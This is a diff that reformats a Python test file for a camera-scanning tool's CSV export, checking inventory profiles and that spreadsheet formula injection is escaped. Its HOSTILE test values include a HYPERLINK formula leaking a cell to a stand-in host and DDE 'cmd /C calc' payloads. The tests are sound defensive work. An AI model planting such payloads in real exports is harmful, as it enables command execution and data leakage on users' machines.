@@ -16,7 +16,7 @@ from camscan.output.document import build_document
 
 README = Path(__file__).resolve().parents[2] / "docs" / "outputs.md"
 HOSTILE = {
-    "model": "=HYPERLINK(\"http://x.invalid/?\"&A1,\"click\")",
+    "model": '=HYPERLINK("http://x.invalid/?"&A1,"click")',
     "brand": "+cmd|' /C calc'!A0",
     "firmware": "-2+3",
     "serial": "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -36,8 +36,13 @@ def _hostile_doc() -> dict:
     dev.ip = "198.18.0.99"
     dev.mac = "44:19:b6:3a:10:99"
     dev.vendor = HOSTILE["vendor"]
-    dev.verdict = replace(dev.verdict, model=HOSTILE["model"], brand=HOSTILE["brand"],
-                          firmware=HOSTILE["firmware"], serial=HOSTILE["serial"])
+    dev.verdict = replace(
+        dev.verdict,
+        model=HOSTILE["model"],
+        brand=HOSTILE["brand"],
+        firmware=HOSTILE["firmware"],
+        serial=HOSTILE["serial"],
+    )
     dev.errors = [HOSTILE["value"]]
     dev.evidence.append(Evidence(dev.ip, "http", "http.title", HOSTILE["value"], 80))
     return build_document(with_device(sample_result(), dev))
@@ -64,8 +69,9 @@ def test_no_cell_of_any_profile_can_start_a_formula(profile: str) -> None:
 
 def test_generic_profile_escapes_each_hostile_field() -> None:
     header, *rows = _rows(csv_text(_hostile_doc(), "generic"))
-    row = dict(zip(header, next(r for r in rows if r[header.index("ip")] == "198.18.0.99"),
-                   strict=True))
+    row = dict(
+        zip(header, next(r for r in rows if r[header.index("ip")] == "198.18.0.99"), strict=True)
+    )
     assert row["model"] == "'" + HOSTILE["model"]
     assert row["brand"] == "'" + HOSTILE["brand"]
     assert row["firmware"] == "'" + HOSTILE["firmware"]
@@ -94,11 +100,29 @@ def test_profile_columns_are_the_documented_ones(profile: str) -> None:
 
 def test_profile_columns_pinned() -> None:
     assert PROFILES["netbox"].columns == (
-        "name", "role", "manufacturer", "device_type", "serial", "asset_tag", "status", "site",
-        "description", "comments")
+        "name",
+        "role",
+        "manufacturer",
+        "device_type",
+        "serial",
+        "asset_tag",
+        "status",
+        "site",
+        "description",
+        "comments",
+    )
     assert PROFILES["snipeit"].columns == (
-        "Asset Tag", "Asset Name", "Manufacturer", "Model Name", "Model Number", "Category",
-        "Serial Number", "Location", "Asset Notes", "MAC Address")
+        "Asset Tag",
+        "Asset Name",
+        "Manufacturer",
+        "Model Name",
+        "Model Number",
+        "Category",
+        "Serial Number",
+        "Location",
+        "Asset Notes",
+        "MAC Address",
+    )
 
 
 @pytest.mark.parametrize("profile", list(PROFILES))
@@ -115,7 +139,11 @@ def test_netbox_rows_fill_every_required_field() -> None:
         assert all(row[k] for k in ("role", "manufacturer", "device_type", "status", "site"))
     lorex = dict(zip(header, rows[1], strict=True))
     assert (lorex["name"], lorex["manufacturer"], lorex["device_type"], lorex["role"]) == (
-        "Lorex-001F540A3107", "Dahua", "W461ASC", "Camera")
+        "Lorex-001F540A3107",
+        "Dahua",
+        "W461ASC",
+        "Camera",
+    )
     assert "made by Dahua, sold as Lorex" in lorex["comments"]
 
 
@@ -135,8 +163,11 @@ def test_unknown_profile_is_refused() -> None:
 def test_notes_quote_the_strongest_matches_only() -> None:
     from camscan.output.csv import decided_by_text
 
-    verdict = {"decided_by": [{"fingerprint_id": f"fp{i}", "key": "http.server",
-                               "value": "x" * 200} for i in range(5)]}
+    verdict = {
+        "decided_by": [
+            {"fingerprint_id": f"fp{i}", "key": "http.server", "value": "x" * 200} for i in range(5)
+        ]
+    }
     text = decided_by_text(verdict, 3)
     assert text.startswith("fp0 (http.server=" + "x" * 79 + "…)")
     assert "fp2" in text and "fp3" not in text and text.endswith("; and 2 more")
